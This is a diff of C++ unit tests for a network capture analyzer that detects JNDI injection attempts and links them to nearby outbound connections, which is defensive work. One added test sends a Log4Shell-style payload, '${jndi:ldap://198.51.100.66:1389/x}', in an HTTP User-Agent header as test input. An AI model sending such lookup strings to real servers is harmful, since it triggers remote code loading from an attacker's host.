@@ -199,9 +199,8 @@ TEST(CaptureAnalyzer, DnsTxtQueryWithoutEdnsIsJndi) {
   ASSERT_NE(txt, nullptr);
   EXPECT_EQ(txt->name, "1qaz2wsx");
   EXPECT_EQ(txt->flow.dst_ip, "10.10.10.31");
-  const NetEvent* plain = FindEvent(r, EventKind::kDnsQuery);
-  ASSERT_NE(plain, nullptr);
-  EXPECT_EQ(plain->name, "example.org");
+  // An ordinary A query is context: with no attempt to tie it to, it is not kept.
+  EXPECT_EQ(FindEvent(r, EventKind::kDnsQuery), nullptr);
   EXPECT_TRUE(r.detections.empty());
 }
 
@@ -250,6 +249,27 @@ TEST(CaptureAnalyzer, NoIncidentForAnotherPortOrAContactBeforeTheAttempt) {
   CaptureResult r = feed.analyzer.Finish();
   EXPECT_EQ(r.detections.size(), 1u);
   EXPECT_TRUE(r.incidents.empty());
+}
+
+TEST(CaptureAnalyzer, ContextEventsAreKeptOnlyNearAnAttempt) {
+  Feeder feed;
+  for (uint16_t i = 0; i < 500; ++i) {  // clean traffic: nothing to keep
+    Conn c{"10.0.0.10", static_cast<uint16_t>(20000 + i), "192.0.2.80", 443};
+    feed(c.Syn(), 1);
+  }
+  Conn just_before{"10.0.0.10", 43000, "198.51.100.66", 1389};
+  feed(just_before.Syn(), 1);
+  Conn in{"203.0.113.5", 40000, "10.0.0.10", 8080};
+  feed(in.C("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.66:1389/x}\r\n\r\n"), 0.5);
+  Conn after{"10.0.0.10", 43001, "192.0.2.81", 443};
+  feed(after.Syn(), 30);
+  CaptureResult r = feed.analyzer.Finish();
+  size_t context = 0;
+  for (const NetEvent& e : r.events) context += IsContextEvent(e.kind);
+  EXPECT_EQ(context, 3u) << "the connection within the slack before the attempt, the attempt's own, one after";
+  // A contact 0.5 s before the attempt (clock skew between taps) still makes the incident.
+  ASSERT_EQ(r.incidents.size(), 1u);
+  EXPECT_EQ(r.events[r.incidents[0].event].flow.src_port, 43000);
 }
 
 TEST(CaptureAnalyzer, IncidentByNameLookupFromAnotherHost) {
